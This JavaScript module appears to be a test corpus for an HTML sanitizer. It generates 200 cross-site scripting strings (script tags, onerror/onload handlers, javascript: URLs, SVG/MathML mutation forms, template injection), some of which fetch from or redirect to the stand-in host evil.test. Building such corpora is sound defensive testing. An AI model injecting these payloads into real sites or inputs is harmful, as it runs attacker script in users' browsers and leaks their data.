// What people type who mean harm: 200 strings that have run scripts somewhere, in some page. Each says `pwned(…)` if it runs, or calls
// for a file from elsewhere.

const DEEDS = ['pwned(1)', 'alert(1)', "fetch('http://evil.test/')", 'location="http://evil.test/"'];

/** Forms with a place for the deed. */
const FORMS = [
  '<script>§</script>',
  '<SCRIPT>§</SCRIPT>',
  '<scr<script>ipt>§</scr</script>ipt>',
  '</p><script>§</script>',
  '</textarea><script>§</script>',
  '</title><script>§</script>',
  '--><script>§</script><!--',
  ']]><script>§</script>',
  '<img src=x onerror=§>',
  '<img src=x onerror="§">',
  '<img/src=x/onerror=§>',
  '"><img src=x onerror=§>',
  "'><img src=x onerror=§>",
  '<svg onload=§>',
  '<svg/onload=§>',
  '<svg><script>§</script></svg>',
  '<svg><animate onbegin=§ attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg onload=§>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=§>',
  '<math href="javascript:§">click</math>',
  '<body onload=§>',
  '<iframe src="javascript:§"></iframe>',
  '<iframe srcdoc="<script>§</script>"></iframe>',
  '<object data="javascript:§"></object>',
  '<embed src="javascript:§">',
  '<video><source onerror="§"></video>',
  '<audio src=x onerror=§>',
  '<details open ontoggle=§>',
  '<input autofocus onfocus=§>',
  '<select autofocus onfocus=§>',
  '<textarea autofocus onfocus=§>',
  '<marquee onstart=§>',
  '<a href="javascript:§">click</a>',
  '<form action="javascript:§"><button>send</button></form>',
  '<button formaction="javascript:§" form=x>send</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:§">',
  '<base href="javascript:§//">',
  '<link rel="stylesheet" href="javascript:§">',
  '<style>@import "javascript:§";</style>',
  '<div style="background:url(javascript:§)">x</div>',
  'javascript:§',
  'JaVaScRiPt:§',
  'http://x.test/"onmouseover="§',
  '[click](javascript:§)',
  '{{constructor.constructor("§")()}}',
  '${§}',
  '<template><script>§</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=§>">',
];

/** Without a deed of their own: they load, hide, break or pretend. */
const OTHERS = [
  '<img src="http://evil.test/pixel.png">',
  '<link rel="preload" as="image" href="http://evil.test/p.png">',
  '<style>body{display:none}</style>',
  '"><b>bold?</b>',
  '&lt;script&gt;pwned(1)&lt;/script&gt;',
  '\u202e<tpircs>)1(denwp<tpircs/>',
  '\ufeff<script>pwned(1)</script>',
  '__proto__',
];

/** @type {readonly string[]} exactly 200, each another */
export const HOSTILE = [...FORMS.flatMap((form) => DEEDS.map((deed) => form.replaceAll('§', deed))), ...OTHERS];
